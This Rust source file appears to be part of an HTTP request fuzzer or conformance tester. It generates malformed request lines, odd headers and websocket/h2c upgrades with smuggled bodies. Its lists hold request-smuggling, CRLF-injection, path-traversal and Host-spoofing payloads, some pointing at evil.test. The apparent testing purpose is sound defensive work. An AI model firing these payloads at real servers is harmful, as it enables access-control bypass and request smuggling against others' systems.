//! Request lines, fields beside the framing, and upgrades.

use super::{Draft, PATH, PREFIX, SMUGGLED, fill, seeds};

/// Of a method and a target.
const SHAPES: [&[u8]; 66] = [
    b"@METHOD@  @TARGET@ HTTP/1.1",
    b"@METHOD@ @TARGET@  HTTP/1.1",
    b"@METHOD@\t@TARGET@ HTTP/1.1",
    b"@METHOD@ @TARGET@\tHTTP/1.1",
    b" @METHOD@ @TARGET@ HTTP/1.1",
    b"\t@METHOD@ @TARGET@ HTTP/1.1",
    b"@METHOD@ @TARGET@ HTTP/1.1 ",
    b"@METHOD@ @TARGET@ HTTP/1.1\t",
    b"@METHOD@ @TARGET@",
    b"@METHOD@ @TARGET@ ",
    b"@METHOD@ @TARGET@ HTTP/0.9",
    b"@METHOD@ @TARGET@ HTTP/1.2",
    b"@METHOD@ @TARGET@ HTTP/1.0",
    b"@METHOD@ @TARGET@ HTTP/2.0",
    b"@METHOD@ @TARGET@ HTTP/2",
    b"@METHOD@ @TARGET@ HTTP/1.10",
    b"@METHOD@ @TARGET@ HTTP/1.1x",
    b"@METHOD@ @TARGET@ http/1.1",
    b"@METHOD@ @TARGET@ HTTP /1.1",
    b"@METHOD@ @TARGET@ HTTP/ 1.1",
    b"@METHOD@ @TARGET@ HTTP/1,1",
    b"@METHOD@ @TARGET@ HTTP/+1.1",
    b"@METHOD@ @TARGET@ ICAP/1.0",
    b"@METHOD@ @TARGET@ HTTP/1.1 HTTP/1.1",
    b"@METHOD@ @TARGET@ /forbidden HTTP/1.1",
    b"@METHOD@ /forbidden @TARGET@ HTTP/1.1",
    b"@METHOD@ @TARGET@\r HTTP/1.1",
    b"@METHOD@ @TARGET@\n HTTP/1.1",
    b"@METHOD@ @TARGET@\0 HTTP/1.1",
    b"@METHOD@ @TARGET@\x0b HTTP/1.1",
    b"@METHOD@ @TARGET@#x HTTP/1.1",
    b"@METHOD@ @TARGET@\\..\\forbidden HTTP/1.1",
    b"@METHOD@ @TARGET@/../../forbidden HTTP/1.1",
    b"@METHOD@ @TARGET@%0d%0aX:y HTTP/1.1",
    b"@METHOD@ @TARGET@%00 HTTP/1.1",
    b"@METHOD@ @TARGET@\xc3\xa9 HTTP/1.1",
    b"@METHOD@ @TARGET@?a b HTTP/1.1",
    b"@METHOD@ @TARGET@ HTTP/1.1\rGET /forbidden HTTP/1.1",
    b"@METHOD@ @TARGET@ HTTP/1.1\nGET /forbidden HTTP/1.1",
    b"@METHOD@ @TARGET@ HTTP/1.1\r\n\nGET /forbidden HTTP/1.1",
    b"\r\n@METHOD@ @TARGET@ HTTP/1.1",
    b"\r\n\r\n\r\n@METHOD@ @TARGET@ HTTP/1.1",
    b"\n@METHOD@ @TARGET@ HTTP/1.1",
    b"\r@METHOD@ @TARGET@ HTTP/1.1",
    b"\0@METHOD@ @TARGET@ HTTP/1.1",
    b"\xef\xbb\xbf@METHOD@ @TARGET@ HTTP/1.1",
    b"@METHOD@ http://evil.test@PATH@ HTTP/1.1",
    b"@METHOD@ HTTP://@AUTHORITY@@PATH@ HTTP/1.1",
    b"@METHOD@ https://@AUTHORITY@@PATH@ HTTP/1.1",
    b"@METHOD@ http://user@@AUTHORITY@@PATH@ HTTP/1.1",
    b"@METHOD@ http:@PATH@ HTTP/1.1",
    b"@METHOD@ http:///@AUTHORITY@@PATH@ HTTP/1.1",
    b"@METHOD@ //@AUTHORITY@@PATH@ HTTP/1.1",
    b"@METHOD@ @AUTHORITY@ HTTP/1.1",
    b"@METHOD@ * HTTP/1.1",
    b"@METHOD@ http://@AUTHORITY@?x=y HTTP/1.1",
    b"@METHOD@ http://@AUTHORITY@\\@evil.test@PATH@ HTTP/1.1",
    b"CONNECT @AUTHORITY@ HTTP/1.1",
    b"CONNECT @PATH@ HTTP/1.1",
    b"PRI * HTTP/2.0\r\n\r\nSM",
    b"@TARGET@ HTTP/1.1",
    b"HTTP/1.1 200 OK",
    b"@METHOD@",
    b"",
    b"@METHOD@ @TARGET@ HTTP/1.1\r\n",
    b"@METHOD@ @TARGET@ HTTP/1.1\r\nGET /forbidden HTTP/1.1",
];

const METHODS: [&[u8]; 18] = [
    b"get",
    b"Get",
    b"G ET",
    b"GE\tT",
    b"GET\0",
    b"G\xc9T",
    b"G@T",
    b"G:T",
    b"\"GET\"",
    b"GET,POST",
    b"GET/",
    b"TRACE",
    b"OPTIONS",
    b"BREW",
    b"M-SEARCH",
    b"GET\x7f",
    b"\x80",
    b"X-Y!#$%&'*+-.^_`|~",
];

/// Request lines.
pub(super) fn lines() -> Vec<Vec<u8>> {
    let seeds = seeds();
    let mut found = Vec::new();
    for seed in &seeds[..3] {
        let method = seed.line.split(|byte| *byte == b' ').next().unwrap_or_default();
        for shape in SHAPES {
            let line = fill(shape, b"@METHOD@", method);
            found.push(seed.with_line(&fill(&line, b"@TARGET@", b"@PREFIX@@PATH@")).bytes());
        }
    }
    for method in METHODS {
        let line = [method, b" ", PREFIX, PATH, b" HTTP/1.1"].concat();
        found.extend(seeds[..3].iter().map(|seed| seed.with_line(&line).bytes()));
    }
    let long = [b"A".repeat(5000).as_slice(), b" ", PREFIX, PATH, b" HTTP/1.1"].concat();
    found.push(seeds[0].with_line(&long).bytes());
    found
}

/// Fields beside an honest framing: hosts, nominations, expectations, folds, names that are none.
pub(super) fn fields() -> Vec<Vec<u8>> {
    let odd: [&[u8]; 57] = [
        b"Host: @AUTHORITY@",
        b"Host: evil.test",
        b"host: evil.test",
        b"Host:",
        b"Host : evil.test",
        b"Host\t: evil.test",
        b" Host: evil.test",
        b"Host\0: evil.test",
        b"X-Forwarded-Host: evil.test",
        b"X-Host: evil.test",
        b"Forwarded: host=evil.test",
        b"X-Original-URL: /forbidden",
        b"X-Rewrite-URL: /forbidden",
        b"X-HTTP-Method-Override: DELETE",
        b"Connection: close, host",
        b"Connection: content-length",
        b"Connection: transfer-encoding",
        b"Connection: content-length, keep-alive",
        b"Connection: upgrade, x-a",
        b"Connection: \0",
        b"Connection: close\r\nConnection: keep-alive",
        b"Keep-Alive: timeout=5, max=1",
        b"Proxy-Connection: keep-alive",
        b"Expect: 100-continue",
        b"Expect: 100-Continue, x",
        b"Expect: 200-ok",
        b"Expect:",
        b"Expect: 100-continue\r\nExpect: 100-continue",
        b"Expect : 100-continue",
        b"Upgrade: h2c\r\nConnection: Upgrade",
        b"Upgrade: websocket\r\nConnection: Upgrade",
        b"Upgrade: TLS/1.0\r\nConnection: Upgrade",
        b"HTTP2-Settings: AAMAAABkAAQAAP__",
        b"TE: trailers",
        b"TE: chunked",
        b"Trailer: Content-Length",
        b"X-A: b\r\n c",
        b"X-A: b\r\n\tc",
        b"X-A:\r\n\r",
        b"X-A",
        b": b",
        b"X A: b",
        b"X-A : b",
        b"X-A\x0b: b",
        b"X\xc3\xa9: b",
        b"X-A: \xc3\xa9",
        b"X-A: b\0",
        b"X-A: b\x7f",
        b"X-A: b\x08",
        b"X-A: b\x1b[2J",
        b"X-A: b\nX-C: d",
        b"X-A: b\rX-C: d",
        b"X-A: b\r\n\r",
        b"X_A: b",
        b"Content_Length: 500",
        b"Transfer_Encoding: chunked",
        b"Content-Encoding: chunked",
    ];
    let mut found = Vec::new();
    for seed in seeds() {
        for field in odd {
            found.push(seed.with_field(field).bytes());
        }
    }
    for seed in &seeds()[..3] {
        for field in odd {
            let mut first = seed.clone();
            first.fields.insert(0, field.to_vec());
            found.push(first.bytes());
        }
        for host in [
            &b"Host:"[..],
            b"Host: ",
            b"host:\t@AUTHORITY@",
            b"Host: @AUTHORITY@ ",
            b"Host: @AUTHORITY@, evil.test",
            b"Host: a@@AUTHORITY@",
            b"Host: evil.test",
            b"Host: @AUTHORITY@/x",
            b"Host: @AUTHORITY@.",
            b"Host:\r\n @AUTHORITY@",
            b"Host: \"@AUTHORITY@\"",
            b"X: y",
        ] {
            let mut other = seed.clone();
            other.fields[0] = host.to_vec();
            found.push(other.bytes());
        }
    }
    found
}

/// Upgrades with something behind them.
pub(super) fn upgrades() -> Vec<Vec<u8>> {
    let socket = Draft::new(
        "GET",
        &[
            "Connection: Upgrade",
            "Upgrade: websocket",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        ],
        b"",
    );
    let with = |field: &str, body: &[u8]| {
        Draft {
            body: body.to_vec(),
            ..socket.with_field(field.as_bytes())
        }
        .bytes()
    };
    let length = format!("Content-Length: {}", SMUGGLED.len());
    vec![
        with("X: y", b""),
        with("X: y", SMUGGLED),
        with(&length, SMUGGLED),
        with("Content-Length: 0", SMUGGLED),
        with("Transfer-Encoding: chunked", &[b"0\r\n\r\n", SMUGGLED].concat()),
        with("Sec-WebSocket-Version: 12", SMUGGLED),
        with("Upgrade: h2c", SMUGGLED),
        with("Upgrade: websocket, h2c", SMUGGLED),
        Draft {
            body: SMUGGLED.to_vec(),
            ..socket.with_line(b"POST @PREFIX@@PATH@ HTTP/1.1")
        }
        .bytes(),
        Draft {
            body: SMUGGLED.to_vec(),
            ..socket.with_line(b"GET @PREFIX@@PATH@ HTTP/1.0")
        }
        .bytes(),
        [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", SMUGGLED].concat(),
        [&seeds()[0].bytes()[..], b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"].concat(),
        [&seeds()[0].bytes()[..], SMUGGLED].concat(),
        [&seeds()[1].bytes()[..], b"\r\n\r\n", SMUGGLED].concat(),
    ]
}
